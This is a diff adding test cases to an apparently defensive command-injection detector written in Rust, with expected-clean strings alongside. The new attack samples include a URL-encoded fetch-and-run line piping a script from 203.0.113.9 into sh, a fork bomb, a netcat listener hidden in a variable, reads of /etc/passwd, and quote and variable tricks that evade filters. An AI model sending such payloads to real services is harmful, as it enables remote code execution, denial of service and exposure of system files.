@@ -227,8 +227,31 @@ fn command_injection_techniques() {
         "cmd=/???/c?t%20/e??/p??swd",
         "cmd=%7Bcat,/etc/passwd%7D",
         "cmd=bash%20-c%20%27id%27",
+        "code=ansible%20all%20-m%20ping", // an administration tool's command line
+        "cmd=python3.10%20x.py",          // a versioned interpreter
+        "code=time%20who",                // a wrapper around a command
+        "args=env%20--version",           // a wrapper alone, with its options
+        "host=x%3Bc%24%40at%20/et%24%40c/passwd", // `$@` expanding to nothing mid-word
+        "cmd=%27i%27fconfig",             // a command word split by quotes
+        "cmd=uname%24u%20-a",             // an unset variable glued to a word
+        "x=curl%20203.0.113.9/s%20%7C%20sh", // output piped into a shell
+        "cmd=%3A()%7B%20%3A%7C%3A%26%20%7D%3B%3A", // the fork bomb
+        "cmd=a%3Dnc%26%26%24a%20-nlvp%20555", // a variable run as the command
+        "x=%26%20FOR%20%25%5D%20IN%20(a%2Cb)DO%20cmd", // a batch loop
+        "search=%7C%20dir%20c%3A",        // a bare drive letter
+        "cmd=dd%20if%3D/etc/passwd%20of%3D/tmp/x",
+        "view=image.jpg%26bcdboot%20/r%20file.txt",
     ] {
         assert_attack(query(q), "cmdi");
+    }
+    for agent in ["visudo", "chef-shell", "cscli alerts list"] {
+        assert_attack(
+            Request {
+                headers: vec![("User-Agent".into(), agent.into())],
+                ..query("q=1")
+            },
+            "cmdi",
+        );
     }
 }
 
@@ -239,6 +262,10 @@ fn prose_with_semicolons_and_pipes_is_not_a_command() {
         "msg=results%20%7C%20more%20info%20below",
         "ua=compatible%3B%20touch%3B%20arm",
         "q=cats%20%26%20dogs",
+        "ua=windows%20phone%208.0%3B%20arm%3B%20touch%3B%20nokia",
+        "type=perf",
+        "q=time%20flies",
+        "price=%2410%20or%20%245",
     ] {
         assert_clean(query(q));
     }
